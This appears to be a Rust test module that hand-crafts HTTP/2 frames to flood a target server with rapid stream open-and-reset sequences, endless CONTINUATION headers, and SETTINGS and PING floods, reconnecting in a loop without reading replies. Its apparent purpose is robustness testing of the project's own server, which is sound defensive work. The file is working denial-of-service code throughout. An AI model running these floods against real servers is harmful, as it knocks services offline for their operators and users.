//! HTTP/2 by hand (RFC 9113), against its own rules.

use crate::attackers::Target;
use enroute_tests::site::tls;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `:method: POST`, `:scheme: https`, `:path: /`, by RFC 7541's static table.
const HEAD: &[u8] = &[0x83, 0x87, 0x84];

type Flood = fn(u32) -> Vec<u8>;

/// What is written again and again, by a number that grows.
const FLOODS: [(&str, Flood); 4] = [
    ("streams opened and reset", reset),
    ("heads that go on and on", continued),
    ("settings", |_| {
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff])
    }),
    ("pings", |_| frame(PING, 0, 0, b"12345678")),
];

pub(crate) fn attack(target: &Target, attackers: &mut JoinSet<()>) {
    for last in [12, 13] {
        for (what, flood) in FLOODS {
            attackers.spawn(flood_with(target.clone(), last, what, flood));
        }
    }
}

/// Writes until the other side hangs up, and never waits for what it says.
async fn flood_with(target: Target, last: u8, what: &'static str, flood: Flood) {
    let connector = target.connector(None, &["h2"]);
    loop {
        tokio::task::yield_now().await;
        let Ok(stream) = tls(&connector, target.port, last).await else {
            continue;
        };
        let (mut reader, mut writer) = tokio::io::split(stream);
        let begin = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        let write = async {
            let mut written = writer.write_all(&begin).await;
            let mut number = 0;
            while written.is_ok() {
                target.did(what);
                written = writer.write_all(&flood(number)).await;
                number += 1;
            }
        };
        let read = async {
            let mut heard = vec![0; 16 << 10];
            while !matches!(reader.read(&mut heard).await, Ok(0) | Err(_)) {}
        };
        tokio::select! {
            () = write => {}
            () = read => {}
        }
    }
}

fn reset(number: u32) -> Vec<u8> {
    let stream = 2 * number + 1;
    let open = frame(HEADERS, END_STREAM | END_HEADERS, stream, HEAD);
    [open, frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])].concat()
}

/// A head that never ends, with fields that nobody wants.
fn continued(number: u32) -> Vec<u8> {
    if number == 0 {
        return frame(HEADERS, 0, 1, HEAD);
    }
    let field = [&[0x00, 0x01, b'x', 0x7f, 0x21][..], &[b'y'; 160]].concat();
    frame(CONTINUATION, 0, 1, &field.repeat(16))
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [length[1], length[2], length[3], kind, flags];
    [&head[..], &stream.to_be_bytes(), payload].concat()
}
